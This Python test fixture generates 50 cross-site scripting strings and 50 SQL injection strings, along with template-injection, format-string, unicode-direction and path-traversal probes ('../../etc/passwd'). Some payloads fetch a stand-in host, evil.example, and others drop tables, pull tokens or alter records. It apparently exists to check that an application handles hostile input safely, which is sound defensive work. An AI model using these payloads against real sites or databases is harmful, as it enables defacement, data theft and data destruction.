"""Texts that attack a page or a database, for tests that show them and store them."""

ACTS = ("window.hacked=1", "alert(1)", "fetch('https://evil.example')")
SHELLS = (
    "<script>{}</script>", "<img src=x onerror=\"{}\">", "<svg/onload={}>", "</p><script>{}</script>", "<iframe srcdoc='<script>{}</script>'>",
    "javascript:{}", "\"><script>{}</script>", "'-{}-'", "<a href='javascript:{}'>x</a>", "<body onload={}>", "<style>@import '{}'</style>",
    "<!--><script>{}</script>-->", "]]><script>{}</script>",
)  # fmt: skip
OTHERS = (
    "\u202eright to left", "\u2066isolated\u2069", "a" * 10_000, "long word " * 400, "line\nbreak\ttab", "&lt;b&gt;bold&lt;/b&gt;", "{{7*7}}",
    "${7*7}", "%s%n%x", "'; DROP TABLE votes; --", "../../etc/passwd",
)  # fmt: skip
PROMPTS = [shell.replace("{}", act) for shell in SHELLS for act in ACTS] + list(OTHERS)
assert len(PROMPTS) == 50

_STATEMENTS = (
    "' OR '1'='1", "'; DROP TABLE votes; --", '" OR ""="', "1; SELECT pg_sleep(9)", "' UNION SELECT token FROM people --",
    "\\'; --", "%27%20OR%201=1", "' || (SELECT name FROM people) || '", "x'; UPDATE people SET discarded=1; --", "0x27",
)  # fmt: skip
INJECTIONS = [f"{text}{end}" for end in ("", "--", "/*", "#", ";") for text in _STATEMENTS]
assert len(INJECTIONS) == 50
